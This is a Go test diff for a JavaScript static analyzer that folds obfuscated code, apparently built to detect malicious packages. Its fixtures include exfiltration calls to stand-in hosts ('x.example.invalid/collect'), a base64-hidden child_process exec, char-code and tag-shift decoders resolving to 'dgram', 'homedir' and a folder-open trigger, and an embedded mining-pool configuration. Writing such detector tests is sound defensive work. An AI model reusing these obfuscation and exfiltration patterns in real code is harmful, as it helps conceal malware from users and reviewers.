@@ -2242,11 +2242,16 @@ func TestNestedExportProps(t *testing.T) {
 	}
 	f := Analyze("index.js", []byte(`const https = require("https"); const K = require("./k"); const C = require("./cfg.json");
 https.get("https://" + K.host + K.path.p);
-https.request("https://" + K.host + C.path.p);`), lim)
+https.request("https://" + K.host + C.path.p);
+const { path: P } = require("./cfg.json"); fetch("https://" + K.host + P.p);`), lim)
 	for callee, want := range map[string]string{"https.get": "https://x.example.invalid/collect", "https.request": "https://x.example.invalid/upload"} {
 		if c := hasCall(f, callee); c == nil || len(c.Args) == 0 || c.Args[0].Value != want {
 			t.Errorf("%s: %+v, want %q", callee, c, want)
 		}
+	}
+	// a member of a JSON file's object destructured under another name
+	if c := hasCall(f, "fetch"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "https://x.example.invalid/upload" {
+		t.Errorf("fetch: %+v, want P.p as C.path.p", c)
 	}
 }
 
@@ -2328,6 +2333,52 @@ require(d("Y2hpbGRfcHJvY2Vzcw==")).exec("id");`), lim)
 	g := Analyze("main.mjs", []byte(`import { k } from "./k.mjs"; fetch(k("aHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC9w"));`), lim)
 	if c := hasCall(g, "fetch"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "https://c.example.invalid/p" {
 		t.Errorf("fetch = %+v", c)
+	}
+}
+
+// TestWholeModuleHelper covers a module that is itself a decoder
+// (module.exports = (k) => …) over its own object of char-code arrays
+// and a numeric offset: both travel with the helper, and calls fold where
+// the module is required.
+func TestWholeModuleHelper(t *testing.T) {
+	tables := Analyze("tables.js", []byte(`const OFF = 17;
+const T = { f: [117, 120, 131, 114, 126], h: [121, 128, 126, 118, 117, 122, 131] };
+module.exports = (k) => String.fromCharCode(...T[k].map((n) => n - OFF));`), DefaultLimits())
+	lim := DefaultLimits()
+	lim.ModuleHelper = func(from, spec, prop string) (string, bool) {
+		src, ok := tables.ExportHelpers[prop]
+		return src, ok && spec == "./tables"
+	}
+	f := Analyze("diag.js", []byte(`const t = require("./tables");
+const home = require("os")[t("h")]();
+const sock = require(t("f"));`), lim)
+	if !hasImport(f, "dgram") || !hasString(f, "homedir") {
+		t.Errorf("imports %+v, strings %+v", f.Imports, f.Strings)
+	}
+	// an object whose values are not all literals stays the module's
+	g := Analyze("tables.js", []byte(`const T = { f: [117, 120], g: load() };
+module.exports = (k) => String.fromCharCode(...T[k].map((n) => n - 17));`), DefaultLimits())
+	if src, ok := g.ExportHelpers[""]; !ok || strings.Contains(src, "\x00") {
+		t.Errorf("helper %q (kept: %v) carries a table that is not constant", src, ok)
+	}
+}
+
+// TestTagHelper covers a template tag that hands its strings to
+// String.raw and decodes the text (a shift of every character): the
+// tagged templates fold, in a call and as strings of the file.
+func TestTagHelper(t *testing.T) {
+	f := Analyze("a.js", []byte("const v = (s, ...x) => String.raw(s, ...x).replace(/[\\x20-\\x7e]/g,\n"+
+		"  (c) => String.fromCharCode(((c.charCodeAt(0) - 33 + 95) % 95) + 32));\n"+
+		"const sock = require(v`ehsbn`);\nconst task = { runOptions: { runOn: v`gpmefsPqfo` } };\n"), DefaultLimits())
+	if !hasImport(f, "dgram") || !hasString(f, "folderOpen") {
+		t.Errorf("imports %+v, strings %+v", f.Imports, f.Strings)
+	}
+	// a tag that keeps its text as written is no decoding
+	g := Analyze("a.js", []byte("const css = (s, ...x) => String.raw(s, ...x).trim();\nconst rule = css`color: red`;\n"), DefaultLimits())
+	for _, s := range g.Strings {
+		if s.Decoded {
+			t.Errorf("decoded string %+v from a tag that decodes nothing", s)
+		}
 	}
 }
 
@@ -2445,5 +2496,30 @@ require(d("Y2hpbGRfcHJvY2Vzcw=="));`), DefaultLimits())
 	f = Analyze("x.js", []byte(`require(process.env.X ? "fs" : "child_process");`), DefaultLimits())
 	if hasImport(f, "fs") || hasImport(f, "child_process") {
 		t.Errorf("a condition with two values folded: %+v", f.Imports)
+	}
+}
+
+// TestEmbeddedText covers a configuration hidden in an embedded binary
+// (a base64 WebAssembly module): the printable runs that name a mining
+// pool or a raw IP's URL become decoded strings of the file; other runs,
+// and literals that are not base64, do not.
+func TestEmbeddedText(t *testing.T) {
+	bin := func(text string) string {
+		return base64.StdEncoding.EncodeToString([]byte("\x00asm\x01\x00\x00\x00\x00\x40\x04hint" + text + "\x00\x01"))
+	}
+	f := Analyze("wasm_bg.js", []byte(`module.exports = "`+bin(`{"u":"http://198.51.100.61/x/k","p":"stratum+tcp://pool.example:3333"}`)+`";
+const font = "`+bin(`{"family":"Inter","weight":400,"url":"https://fonts.example.invalid/inter"}`)+`";`), DefaultLimits())
+	var got []string
+	for _, s := range f.Strings {
+		if s.Decoded {
+			got = append(got, s.Value)
+		}
+	}
+	want := []string{`hint{"u":"http://198.51.100.61/x/k","p":"stratum+tcp://pool.example:3333"}`}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("decoded strings (-want +got):\n%s", diff)
+	}
+	if got := embeddedText("a sentence that is long enough to be considered, with http://198.51.100.61/ in it"); got != nil {
+		t.Errorf("embeddedText of plain text = %q", got)
 	}
 }
